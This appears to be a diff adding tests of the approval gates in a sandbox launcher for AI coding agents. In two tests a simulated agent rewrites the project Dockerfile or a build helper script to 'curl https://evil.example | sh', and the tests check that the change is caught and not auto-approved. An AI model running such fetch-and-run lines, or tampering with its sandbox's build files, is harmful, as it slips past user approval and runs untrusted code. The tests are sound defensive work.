@@ -6,6 +6,7 @@ import { Container } from '@theia/core/shared/inversify';
 import { ILogger } from '@theia/core';
 import { SessionInfo } from '@sandy-ui/core/lib/common/session-types';
 import { SandyBackend } from '../sandy-backend';
+import { sandboxNameFor } from '@sandy-ui/core/lib/node/lock-sweep';
 import {
     FAKE_SANDY, FAKE_SANDY_BIN, OutputRecorder, ScratchHome, isGone, outputLine, requireCompiledFake, stripAnsi, waitUntil
 } from './scratch-home';
@@ -16,7 +17,7 @@ const PROMPT = '\x1b[1;32m>\x1b[0m ';
 const TOUCHED_ENV = [
     'HOME', 'PATH', 'TMPDIR', 'SANDY_HOME', 'SANDY_IDE_DATA_DIR', 'SANDY_IDE_POLL_MS', 'SANDY_AGENT', 'SANDY_MODEL',
     'SANDY_UI_CANARY', 'AWS_SECRET_ACCESS_KEY', 'ANTHROPIC_API_KEY', 'SANDY_AUTO_APPROVE_PRIVILEGED', 'SANDY_DAEMON_SUPERVISOR', 'BASH_ENV',
-    'FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'
+    'FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS', 'FAKE_SANDY_GATE_DELAY_MS'
 ];
 
 /** Enough of Theia's ILogger for SandyBackend, keeping what it says for the assertion messages. */
@@ -174,6 +175,119 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
 
             expect((await backend.stop(session.id))!.exitCode).to.equal(130);
             await scratch.expectNoLeftovers();
+        });
+    });
+
+    describe('launch gates: sandy asks, the tab answers only what the user approved, sandy records it', () => {
+        /** A repository that trips all three of sandy's gates. */
+        function hostileProject(): { dockerfile: string } {
+            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
+            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
+            const dockerfile = path.join(scratch.workspace, '.sandy', 'Dockerfile');
+            fs.writeFileSync(dockerfile, 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN echo built-on-the-host\n');
+            fs.mkdirSync(path.join(scratch.home, 'notes'));
+            fs.symlinkSync(path.join(scratch.home, 'notes'), path.join(scratch.workspace, 'notes'));
+            return { dockerfile };
+        }
+
+        const approvalsDir = () => path.join(scratch.sandyHome, 'approvals');
+        const listApprovals = () => fs.existsSync(approvalsDir()) ? fs.readdirSync(approvalsDir()).map(f => f.replace(/-[0-9a-f]{16}\.list$/, '')).sort() : [];
+
+        it('shows every gate, answers sandy\'s three prompts itself after Approve, and the next launch asks nothing', async () => {
+            hostileProject();
+            const request = await backend.preflight(scratch.workspace);
+            expect(request?.kind).to.equal('approve');
+            expect(request!.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
+            expect(request!.dockerfile?.text).to.include('RUN echo built-on-the-host');
+            expect(request!.symlinks).to.deep.equal([`notes -> ${scratch.home}/notes`]);
+
+            // Without the token nothing starts.
+            expect((await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30 })).kind).to.equal('needs-approval');
+            expect(scratch.lockPid()).to.equal(undefined);
+
+            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            expect(outcome.kind).to.equal('launched');
+            const session = (outcome as { session: SessionInfo }).session;
+            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            await view.waitFor(PROMPT, 20_000);
+            const screen = stripAnsi(view.text);
+            // sandy itself asked, and was answered with y; then it built the project image.
+            expect(screen).to.match(/Approve these keys for this workspace\? \[y\/N\] y/);
+            expect(screen).to.match(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] y/);
+            expect(screen).to.match(/Proceed anyway\? \[y\/N\] y/);
+            expect(screen).to.include('Building project image from .sandy/Dockerfile...');
+            // No bypass: sandy recorded each decision in its own files.
+            view.type('env');
+            view.type('echo env-listed');
+            await view.waitFor(outputLine('env-listed'));
+            expect(stripAnsi(view.text)).not.to.include('SANDY_AUTO_APPROVE_PRIVILEGED');
+            expect(listApprovals()).to.deep.equal(['dockerfile', 'passive']);
+            expect(fs.existsSync(path.join(scratch.sandyHome, 'sandboxes', sandboxNameFor(scratch.workspace), '.sandy-approved-symlinks.list'))).to.equal(true);
+            await backend.stop(session.id);
+            await exitOf(session.id);
+
+            // Unchanged project: nothing to ask.
+            expect(await backend.preflight(scratch.workspace)).to.equal(undefined);
+
+            // Revoke really revokes: all three are asked again.
+            expect(await backend.revokeApproval(scratch.workspace)).to.equal(true);
+            expect(listApprovals()).to.deep.equal([]);
+            const again = await backend.preflight(scratch.workspace);
+            expect([!!again?.lines.length, !!again?.dockerfile, !!again?.symlinks?.length]).to.deep.equal([true, true, true]);
+        });
+
+        it('a changed Dockerfile asks only about the Dockerfile, with what changed since the approval', async () => {
+            const { dockerfile } = hostileProject();
+            const first = await backend.preflight(scratch.workspace);
+            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: first!.token });
+            const session = (outcome as { session: SessionInfo }).session;
+            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            await view.waitFor(PROMPT, 20_000);
+            await backend.stop(session.id);
+            await exitOf(session.id);
+
+            // The agent rewrites the Dockerfile in its read-write workspace.
+            fs.writeFileSync(dockerfile, 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN curl https://evil.example | sh\n');
+            const next = await backend.preflight(scratch.workspace);
+            expect(next?.kind).to.equal('approve');
+            expect(next!.lines).to.deep.equal([]);
+            expect(next!.symlinks).to.equal(undefined);
+            expect(next!.dockerfile?.changedSinceApproval).to.equal(true);
+            expect(next!.dockerfile?.diff?.filter(d => d.op !== 'same')).to.deep.equal([
+                { op: 'removed', text: 'RUN echo built-on-the-host' },
+                { op: 'added', text: 'RUN curl https://evil.example | sh' }
+            ]);
+        });
+
+        it('when a build-context file changes after Approve, sandy\'s prompt is left to the user and nothing is recorded', async () => {
+            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
+            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'Dockerfile'), 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY helper.sh /\nRUN sh /helper.sh\n');
+            const helper = path.join(scratch.workspace, '.sandy', 'helper.sh');
+            fs.writeFileSync(helper, 'echo harmless\n');
+            const request = await backend.preflight(scratch.workspace);
+            expect(request?.dockerfile?.contextFiles).to.deep.equal(['helper.sh']);
+            // Hold the fake before its Dockerfile gate, as a slow image build would.
+            await backend.configureSandy({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
+            process.env.FAKE_SANDY_GATE_DELAY_MS = '1500';
+            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            delete process.env.FAKE_SANDY_GATE_DELAY_MS;
+            expect(outcome.kind).to.equal('launched');
+            const session = (outcome as { session: SessionInfo }).session;
+            // The agent (or anyone) changes a file the view could not show, after the user approved.
+            fs.writeFileSync(helper, 'curl https://evil.example | sh\n');
+            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            await view.waitFor(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] /, 20_000);
+            await new Promise(resolve => setTimeout(resolve, 1_000));
+            expect(stripAnsi(view.text)).not.to.match(/\[y\/N\] y/, 'the tab typed y for a changed build context');
+            expect(listApprovals()).to.deep.equal([]);
+            expect(logged.join('\n')).to.match(/left sandy's dockerfile prompt .* to you: the files changed/);
+            // The user answers sandy themselves.
+            view.type('n');
+            await view.waitFor('Not approved', 10_000);
+            await view.waitFor(PROMPT, 20_000);
+            expect(listApprovals()).to.deep.equal([]);
+            await backend.stop(session.id);
+            await exitOf(session.id);
         });
     });
 
